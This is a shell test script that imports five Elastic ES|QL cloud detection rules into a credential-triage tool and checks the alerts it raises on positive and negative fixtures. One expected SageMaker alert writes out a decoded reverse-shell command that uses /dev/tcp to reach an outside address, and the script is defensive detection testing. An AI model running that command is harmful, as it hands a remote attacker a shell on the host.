#!/bin/sh
# Elastic's cloud ES|QL rules that call the functions added for #19, imported
# from a Kibana export whose queries are detection-rules' text unchanged
# (tests/fixtures/esql/detection-rules-queries.ndjson), run by `scan` on a
# positive and a negative fixture each (tests/fixtures/esql/cloud, README
# there): the exact alert set on the positive, none on the negative.
#   k8 web identity   GROK, COALESCE, CASE, COUNT_DISTINCT, VALUES, MV_FIRST
#   Azure VM ext.     SPLIT, MV_FIRST/MV_LAST, DATE_DIFF(.., NOW()) <= 10 (the
#                     fixture's times are written relative to now)
#   Entra travel      ST_X/ST_Y on source.geo.location, FIRST/LAST, TO_STRING of
#                     doubles, TO_GEOPOINT, ST_DISTANCE
#   GKE CSR           METADATA _source, JSON_EXTRACT, FROM_BASE64 twice, LIKE on DER bytes
#   SageMaker         GROK, FROM_BASE64, RLIKE
BIN=${CREDTRIAGE_BIN:?set CREDTRIAGE_BIN}
TMP=$(mktemp -d) || exit 1
trap 'rm -rf "$TMP"' EXIT HUP INT TERM
export HOME="$TMP/home" XDG_DATA_HOME="$TMP/data" XDG_CONFIG_HOME="$TMP/home" GIT_CONFIG_NOSYSTEM=1 TZ=UTC
mkdir -p "$HOME"
AN='Test Analyst <test@example.com>'
F=tests/fixtures/esql/cloud
fail=0
check() { d=$1; shift; if "$@"; then :; else echo "FAIL: $d" >&2; fail=1; fi; }

# the five rules as a Kibana export, their queries as detection-rules ships them
jq -c 'select(.path | test("lateral_movement_k8_assumed_web_identity|execution_azure_vm_extension_unusual_for_host|initial_access_entra_id_signin_impossible_travel|privilege_escalation_gcp_gke_certificate_signing_request_privileged_identity_requested|persistence_sagemaker_lifecycle_config_suspicious_script_content")) |
    {rule_id, name, description: ("elastic/detection-rules " + .path), type: "esql", language: "esql", query, severity: "medium", risk_score: 47}' \
    tests/fixtures/esql/detection-rules-queries.ndjson >"$TMP/export.ndjson"
check "export: five rules" test "$(wc -l <"$TMP/export.ndjson")" -eq 5
# a repo seeded with one unrelated KQL rule, then the import
mkdir -p "$TMP/seed/rules/gcp" "$TMP/seed/guides"
cp rules/gcp/gcp_oslogin_ssh_key_imported.json "$TMP/seed/rules/gcp/"
cp guides/gcp_oslogin_ssh_key_imported.md "$TMP/seed/guides/"
R=$TMP/repo
export CREDTRIAGE_DATADIR="$TMP/seed"
"$BIN" rules import "$TMP/export.ndjson" --repo "$R" --analyst "$AN" >/dev/null 2>"$TMP/err"
check "import: exit 0 ($(cat "$TMP/err"))" test $? -eq 0
check "import: the queries are the text Elastic ships, unchanged" test \
    "$(cat "$R"/rules/*/*.json | jq -r 'select(.language == "esql") | .query' | sort | sha1sum)" = \
    "$(jq -r .query "$TMP/export.ndjson" | sort | sha1sum)"

# alerts of one file: rule name, then what each rule's row says
scan() { "$BIN" scan --json --repo "$R" --analyst "$AN" "$@" 2>"$TMP/scan.err"; }
alerts() { scan "$@" | jq -c "$ROW"; }

ROW='[.rule_name, .actor.name, .esql_row."aws.cloudtrail.user_identity.access_key_id", .esql_row."Esql.assume_count",
      .esql_row."Esql.post_exploit_count", .esql_row."Esql.attack_phases", .esql_row."Esql.total_calls", (.evidence | length)]'
check "k8 web identity: one alert, the pod's key, 4 actions in 3 phases, 5 calls" test "$(alerts $F/k8-web-identity.pos.json)" = \
    '["AWS Lateral Movement from Kubernetes SA via AssumeRoleWithWebIdentity","billing-irsa/botocore-session-1","ASIAQEXAMPLEK8SA0001",1,4,["credential_access","initial_access","recon"],5,5]'
check "k8 web identity: none on the negative ($(cat "$TMP/scan.err"))" test -z "$(scan $F/k8-web-identity.neg.json)"

# the VM extension rule asks for a first sighting within 10 minutes of NOW()
for x in pos neg; do
    sed -e "s/@T2@/$(date -u -d '-2 min' +%Y-%m-%dT%H:%M:%S.000Z)/" -e "s/@T3@/$(date -u -d '-3 min' +%Y-%m-%dT%H:%M:%S.000Z)/" \
        -e "s/@T4@/$(date -u -d '-4 min' +%Y-%m-%dT%H:%M:%S.000Z)/" -e "s/@T120@/$(date -u -d '-120 min' +%Y-%m-%dT%H:%M:%S.000Z)/" \
        "$F/azure-vm-extension.$x.ndjson.in" >"$TMP/azure-vm-extension.$x.ndjson"
done
ROW='[.rule_name, .esql_row."azure.resource.name", .esql_row."Esql.vm_name", .esql_row."Esql.extension_name",
      .esql_row."Esql.event_count", .esql_row."Esql.recent_minutes", .esql_row."Esql.principal_type_values", (.evidence | length)]'
check "VM extension: one alert, WEB-VM-01's CustomScript, 3 minutes ago" test "$(alerts "$TMP/azure-vm-extension.pos.ndjson")" = \
    '["Unusual Azure VM Extension Detected","WEB-VM-01/EXTENSIONS/CUSTOMSCRIPTEXTENSION","WEB-VM-01","CUSTOMSCRIPTEXTENSION",1,3,"ServicePrincipal",1]'
check "VM extension: none on the negative (seen twice, 2 h old, failed, a delete)" test -z "$(scan "$TMP/azure-vm-extension.neg.ndjson")"

# bbox: North Holland's centroid (52.3775, 4.77515) to New York's (40.6955, -73.9751):
# 5854 km in 40 minutes; honest: Amsterdam 09:00 to Brooklyn 09:50, 5862 km.
# (plain haversine on the same radius: 5853.95 and 5861.83 km)
ROW='[.rule_name, .actor.name, .esql_row."Esql.source_geo_region_name_values", .esql_row."Esql.region_count",
      .esql_row."Esql.distance_km", .esql_row."Esql.window_minutes", .esql_row."Esql.travel_kmh",
      .esql_row."Esql.honest_distance_km", .esql_row."Esql.honest_window_minutes", .esql_row."Esql.honest_travel_kmh", (.evidence | length)]'
check "Entra impossible travel: alice, Amsterdam to New York in 40 minutes" test "$(alerts $F/entra-impossible-travel.pos.ndjson)" = \
    '["Microsoft Entra ID Impossible Travel Sign-in","alice@contoso.com",["New York","North Holland"],2,5854,40,8781,5862,50,7034,4]'
check "Entra impossible travel: none on the negative (12 h apart, 35 km, one region, a failed sign-in)" \
    test -z "$(scan $F/entra-impossible-travel.neg.ndjson)"

ROW='[.rule_name, .actor.name, .esql_row."gcp.audit.resource_name", (.esql_row."Esql.csr_pem" | startswith("-----BEGIN CERTIFICATE REQUEST-----\n")), (.evidence | length)]'
check "GKE CSR: one alert, the system:masters request" test "$(alerts $F/gke-csr-privileged.pos.ndjson)" = \
    '["GKE Certificate Signing Request for Privileged Identity","ci-deployer@acme-prod.iam.gserviceaccount.com","certificates.k8s.io/v1/certificatesigningrequests/cluster-admin-backdoor",true,1]'
check "GKE CSR: none on the negative (a developer CSR, a denied create, an approval)" test -z "$(scan $F/gke-csr-privileged.neg.ndjson)"

ROW='[.rule_name, .actor.name, .esql_row."Esql_priv.aws_cloudtrail_lifecycle_script", (.evidence | length)]'
check "SageMaker: one alert, the decoded reverse shell" test "$(alerts $F/sagemaker-lifecycle.pos.json)" = \
    '["AWS SageMaker Notebook Lifecycle Configuration With Suspicious Script Content","data-sci","#!/bin/bash\nset -e\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1 &\n",1]'
check "SageMaker: none on the negative (pip installs, a denied create)" test -z "$(scan $F/sagemaker-lifecycle.neg.json)"

# all positives at once: the five alerts, one per rule, nothing else
check "all positives: exactly the five alerts" test "$(scan $F/*.pos.json $F/*.pos.ndjson "$TMP/azure-vm-extension.pos.ndjson" | jq -r .rule_name | sort | tr '\n' '|')" = \
    "AWS Lateral Movement from Kubernetes SA via AssumeRoleWithWebIdentity|AWS SageMaker Notebook Lifecycle Configuration With Suspicious Script Content|GKE Certificate Signing Request for Privileged Identity|Microsoft Entra ID Impossible Travel Sign-in|Unusual Azure VM Extension Detected|"
exit $fail
